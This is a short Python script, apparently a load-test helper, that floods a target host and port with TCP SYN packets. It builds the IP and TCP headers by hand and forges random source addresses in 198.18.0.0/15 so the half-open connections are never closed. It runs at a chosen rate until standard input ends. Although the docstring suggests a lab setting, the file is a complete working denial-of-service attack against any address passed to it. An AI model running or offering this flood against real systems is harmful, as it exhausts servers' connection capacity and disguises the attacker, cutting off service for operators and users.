"""Half-open connections: SYNs from addresses that will never answer, until standard input ends.

usage: synflood.py TARGET PORT PER_SECOND
The sources lie in 198.18.0.0/15, which is routed to this machine and held by nobody, so no RST ends what a SYN-ACK
began. Says "ready" after two seconds' worth of packets.
"""
import random
import select
import socket
import struct
import sys

target, port, per_second = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
TICK = 0.05


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source):
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    fields = [random.randrange(1024, 65536), port, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0]
    tcp = struct.pack("!HHIIBBHHH", *fields)
    fields[7] = checksum(ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp)) + tcp)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0)
    return ip + ends + struct.pack("!HHIIBBHHH", *fields)


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
while True:
    for _ in range(max(1, int(per_second * TICK))):
        source = f"198.{random.choice((18, 19))}.{random.randrange(256)}.{random.randrange(1, 255)}"
        raw.sendto(syn(source), (target, 0))
        sent += 1
    if sent - per_second * 2 in range(0, max(1, int(per_second * TICK))):
        print("ready", flush=True)
    if select.select([sys.stdin], [], [], TICK)[0] and not sys.stdin.readline():
        break
